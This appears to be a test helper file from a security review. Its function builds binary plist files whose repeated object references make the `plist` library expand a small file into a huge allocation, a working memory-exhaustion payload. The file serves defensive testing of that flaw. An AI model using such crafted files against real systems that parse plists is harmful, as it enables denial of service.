/**
 * Binary plists an attacker on the time share writes (the review's PoC, /tmp/atk-poc/mkbplist.mjs): small files
 * whose object references make the `plist` library build far more than the file holds.
 */

/**
 * Object 0 an array of `refs` references to object 1, a string (ASCII, marker 0x5) or data (0x4) of `length`
 * bytes: `length` bytes on disk, refs × length once parsed.
 */
export function stringReferenceBomb(refs: number, length: number, type: 0x4 | 0x5 = 0x5): Buffer {
  const refSize = 4;
  const offSize = 4;
  const header = Buffer.from('bplist00');
  // Array marker 0xAF: its count follows as an int object 0x12 (4 bytes).
  const arr = Buffer.alloc(1 + 1 + 4 + refs * refSize);
  arr[0] = 0xaf;
  arr[1] = 0x12;
  arr.writeUInt32BE(refs, 2);
  for (let i = 0; i < refs; i++) arr.writeUInt32BE(1, 6 + i * refSize);
  const leaf = Buffer.alloc(1 + 1 + 4 + length, 0x41);
  leaf[0] = (type << 4) | 0x0f;
  leaf[1] = 0x12;
  leaf.writeUInt32BE(length, 2);
  const off0 = header.length;
  const off1 = off0 + arr.length;
  const tableAt = off1 + leaf.length;
  const table = Buffer.alloc(2 * offSize);
  table.writeUInt32BE(off0, 0);
  table.writeUInt32BE(off1, 4);
  const trailer = Buffer.alloc(32);
  trailer[6] = offSize;
  trailer[7] = refSize;
  trailer.writeBigUInt64BE(2n, 8);
  trailer.writeBigUInt64BE(0n, 16);
  trailer.writeBigUInt64BE(BigInt(tableAt), 24);
  return Buffer.concat([header, arr, leaf, table, trailer]);
}
